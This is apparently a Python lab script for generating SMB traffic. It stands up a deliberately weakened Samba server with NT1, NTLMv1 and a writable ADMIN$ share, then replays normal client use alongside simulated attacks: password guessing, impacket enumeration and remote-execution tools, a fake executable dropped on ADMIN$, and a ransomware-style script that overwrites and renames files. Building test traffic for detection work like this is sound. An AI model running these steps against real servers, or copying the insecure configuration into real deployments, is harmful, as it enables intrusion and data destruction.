"""SMB: a Samba server, its everyday clients, and what an attacker does to it."""

import contextlib
import pathlib
import time

from fileserver import ATTACKER, SERVER, run, start

USER, PASSWORD = "daemon", "Lab-Only-7"
EXAMPLES = "/usr/share/doc/python3-impacket/examples"

CONFIGURATION = """
[global]
  workgroup = HOSPITAL
  netbios name = FILES01
  server min protocol = NT1
  ntlm auth = ntlmv1-permitted
  map to guest = Bad User
  guest account = nobody
  passdb backend = tdbsam:{work}/passdb.tdb
  private dir = {work}/private
  lock directory = {work}/lock
  state directory = {work}/state
  cache directory = {work}/cache
  pid directory = {work}/pid
  ncalrpc dir = {work}/ncalrpc
  log file = {work}/log.smbd
  disable spoolss = yes
  admin users = root
  {more}
[images]
  path = {work}/images
  read only = no
[secure]
  path = {work}/secure
  read only = no
  smb encrypt = required
[public]
  path = {work}/public
  guest ok = yes
  read only = no
[ADMIN$]
  path = {work}/admin
  read only = no
"""

RANSOMWARE = """
import os, sys
from impacket.smbconnection import SMBConnection
smb = SMBConnection('{server}', '{server}')
smb.login('{user}', '{password}')
for number in range(30):
    name = 'ward%02d.docx' % number
    plain = bytearray()
    smb.getFile('images', name, plain.extend)
    body = os.urandom(600)
    smb.putFile('images', name, lambda n, left=[body]: left.pop() if left else b'')
    smb.rename('images', name, name + '.lokked')
smb.close()
"""

DELETION = """
from impacket.smbconnection import SMBConnection
smb = SMBConnection('{server}', '{server}')
smb.login('{user}', '{password}')
for number in range(30):
    smb.deleteFile('images', 'old%02d.bak' % number)
smb.close()
"""


@contextlib.contextmanager
def samba(work, more=""):
    run(f"rm -rf {work}/*")
    for folder in ("private", "lock", "state", "cache", "pid", "ncalrpc", "images", "secure", "public", "admin"):
        path = pathlib.Path(work, folder)
        path.mkdir(mode=0o755)
    for folder in ("images", "secure", "public", "admin"):
        pathlib.Path(work, folder).chmod(0o777)
    pathlib.Path(work).chmod(0o755)
    configuration = pathlib.Path(work, "smb.conf")
    configuration.write_text(CONFIGURATION.format(work=work, more=more))
    for number in range(30):
        file = pathlib.Path(work, "images", f"ward{number:02}.docx")
        file.write_text("Plan of the ward, nothing of it real. " * 16)
        file.chmod(0o666)
    for number in range(30):
        file = pathlib.Path(work, "images", f"old{number:02}.bak")
        file.write_text("old")
        file.chmod(0o666)
    for user in (USER, "root"):
        run(f"smbpasswd -c {configuration} -s -a {user}", check=True, text=f"{PASSWORD}\n{PASSWORD}\n")
    daemon = start(f"smbd --foreground --no-process-group -s {configuration}", "server")
    time.sleep(3)
    yield
    daemon.terminate()
    daemon.wait()


def smbclient(share, commands, options="", host="workstation", user=f"{USER}%{PASSWORD}"):
    run(f"smbclient //{SERVER}/{share} -U '{user}' {options} -c '{commands}'", host)


def dicom(preamble):
    return preamble.ljust(128, b"\0") + b"DICM" + bytes.fromhex("0200000055 4c0400 00000000".replace(" ", "")) + bytes(300)


def program():
    return (b"MZ" + bytes(22) + b"\x40" + bytes(35) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0").ljust(700, b"\x90")


def work_as_usual(work):
    old = "--option='client min protocol=NT1' -m NT1"
    pathlib.Path(work, "scan.dcm").write_bytes(dicom(b""))
    pathlib.Path(work, "note.txt").write_text("A note without meaning.\n" * 20)

    everyday = f"lcd {work}; put scan.dcm; ls; get scan.dcm copy.dcm; rename scan.dcm kept.dcm; put note.txt; del note.txt; mkdir day; rmdir day"
    smbclient("images", everyday, "-m SMB3_11")
    smbclient("images", everyday, "-m SMB3_00")
    smbclient("images", everyday, "-m SMB2_10")
    smbclient("images", everyday, "-m SMB2_02 --client-protection=sign")
    smbclient("images", everyday, old)
    smbclient("images", "ls", f"-p 139 {old}")
    smbclient("secure", f"lcd {work}; put note.txt; ls", "-m SMB3_11 --client-protection=encrypt")
    smbclient("public", "ls", "-N", user="")
    smbclient("public", "ls", user="nobody-knows%x")
    run(f"smbclient -L //{SERVER} -U {USER}%{PASSWORD}", "workstation")
    smbclient("nothing", "ls")


def attack(work):
    pathlib.Path(work, "twofold.dcm").write_bytes(dicom(b"MZ"))
    pathlib.Path(work, "tool.exe").write_bytes(program())
    for number in range(14):
        smbclient("images", "ls", host="attacker", user=f"{USER if number % 2 else 'root'}%guess{number}")
    for tool in (f"samrdump.py {USER}:{PASSWORD}@{SERVER}", f"lookupsid.py {USER}:{PASSWORD}@{SERVER} 20",
                 f"services.py root:{PASSWORD}@{SERVER} create -name lab -display lab -path lab.exe", f"smbexec.py root:{PASSWORD}@{SERVER}",
                 f"psexec.py root:{PASSWORD}@{SERVER} cmd", f"reg.py root:{PASSWORD}@{SERVER} save -keyName HKLM -o lab"):
        run(f"cd {work} && timeout 15 /usr/bin/python3 {EXAMPLES}/{tool} </dev/null", "attacker")
    smbclient("ADMIN$", f"lcd {work}; put tool.exe svc.exe", host="attacker", user=f"root%{PASSWORD}")
    smbclient("images", f"lcd {work}; put twofold.dcm", host="attacker")
    for script in (RANSOMWARE, DELETION):
        run("/usr/bin/python3 -", "attacker", text=script.format(server=SERVER, user=USER, password=PASSWORD))
